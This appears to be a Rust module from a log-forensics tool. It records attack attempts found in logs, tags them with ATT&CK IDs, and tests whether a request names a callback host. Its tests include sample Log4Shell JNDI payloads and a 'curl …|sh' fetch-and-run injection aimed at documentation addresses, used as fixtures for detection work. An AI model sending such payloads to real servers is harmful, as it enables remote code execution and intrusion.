//! What did somebody try, and where does a log say so? (The `evidence scan` row of the command contracts.)

use std::net::IpAddr;

use serde::{Deserialize, Serialize};

use crate::mention::mentions;
use crate::time::Timestamp;

/// An attempt that a log shows: a line, or a series of them.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Attempt {
    /// Whether one line shows it or several together.
    pub kind: ShownBy,
    /// The file, and the entry of an archive.
    pub file: String,
    /// The line, of a series the one that completed it; from 1.
    pub line: u64,
    /// Where that line begins in the unpacked file, bytes.
    pub offset: u64,
    /// The lines of a series, at most `LINES_MAX`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub lines: Vec<u64>,
    /// When.
    pub time: Option<Timestamp>,
    /// Who, as the program saw it.
    pub remote: Option<IpAddr>,
    /// Whom a header names; anybody can write one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub claimed_remote: Option<IpAddr>,
    /// The technique.
    pub family: String,
    /// ATT&CK techniques.
    pub attack: Vec<String>,
    /// Vulnerabilities that it exploits.
    pub cves: Vec<String>,
    /// What it came to.
    pub verdict: Verdict,
    /// The rule, or the kind of series.
    pub rule: String,
    /// Why, one reason each.
    #[serde(default)]
    pub reasons: Vec<String>,
    /// The line as it stands, at most `RAW_BYTES_MAX`.
    pub raw: String,
}

impl Attempt {
    /// Whether it was meant to make a program do what its user does not want, rather than to look or to guess.
    pub fn is_exploit(&self) -> bool {
        self.verdict >= Verdict::Attempted && self.attack.iter().any(|id| EXPLOITS.contains(&id.as_str()))
    }

    /// Whether what was sent names this address, or one of these names: whom it would have called back.
    pub fn names<'n>(&self, address: IpAddr, names: impl IntoIterator<Item = &'n str>) -> bool {
        let is_of_client = self.remote == Some(address) || self.claimed_remote == Some(address);
        // Its own address stands in each of a client's lines.
        let is_named = mentions(&self.raw, &address.to_string()) > usize::from(is_of_client);
        is_named || names.into_iter().any(|name| name.contains('.') && mentions(&self.raw, name) > 0)
    }
}

/// ATT&CK: exploit a public-facing application, exploitation for client execution, of remote services, a server's
/// software component (web shells among them).
const EXPLOITS: &[&str] = &["T1190", "T1203", "T1210", "T1505", "T1505.003"];

/// What shows it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ShownBy {
    /// One line.
    Line,
    /// Several lines together.
    Series,
}

/// What an attempt came to.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Verdict {
    /// Somebody looked whether it is there.
    Probed,
    /// Somebody tried it.
    #[default]
    Attempted,
    /// What followed speaks for success.
    LikelySucceeded,
}

/// Lines of a series that are named.
pub const LINES_MAX: usize = 100;
/// Bytes of a line that are shown.
pub const RAW_BYTES_MAX: usize = 4096;

#[cfg(test)]
mod tests {
    use super::*;

    fn attempt(raw: &str) -> Attempt {
        Attempt {
            kind: ShownBy::Line,
            file: "a.log".into(),
            line: 1,
            offset: 0,
            lines: vec![],
            time: None,
            remote: Some("203.0.113.9".parse().unwrap()),
            claimed_remote: None,
            family: "jndi".into(),
            attack: vec!["T1190".into()],
            cves: vec![],
            verdict: Verdict::Attempted,
            rule: "jndi-lookup".into(),
            reasons: vec![],
            raw: raw.into(),
        }
    }

    #[test]
    fn whom_a_request_would_call_back_is_found_and_its_sender_is_not() {
        let (peer, sender) = ("203.0.113.66".parse().unwrap(), "203.0.113.9".parse().unwrap());
        let plain = attempt("203.0.113.9 - - [x] \"GET /?x=${jndi:ldap://203.0.113.66:1389/a} HTTP/1.1\" 200 5");
        assert!(plain.names(peer, []) && !plain.names(sender, []));
        assert!(
            attempt("203.0.113.9 \"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D\"").names(peer, [])
        );
        assert!(attempt("203.0.113.9 \"GET /?x=;curl 203.0.113.9/x|sh\"").names(sender, []));
        let named = attempt("203.0.113.9 \"GET /?x=${jndi:ldap://C2.example/a}\"");
        assert!(named.names(peer, ["c2.example"]) && !named.names(peer, ["2.example"]) && !named.names(peer, ["com"]));
        for other in ["203.0.113.166", "1203.0.113.66", "203.0.113.66.5", "3.203.0.113.66"] {
            assert!(!attempt(&format!("203.0.113.9 \"GET /?x=http://{other}/\"")).names(peer, []), "{other}");
        }
    }

    #[test]
    fn guessing_and_looking_are_no_exploits() {
        let mut one = attempt("");
        assert!(one.is_exploit());
        one.verdict = Verdict::Probed;
        assert!(!one.is_exploit());
        (one.verdict, one.attack) = (Verdict::LikelySucceeded, vec!["T1110".into()]);
        assert!(!one.is_exploit());
    }
}
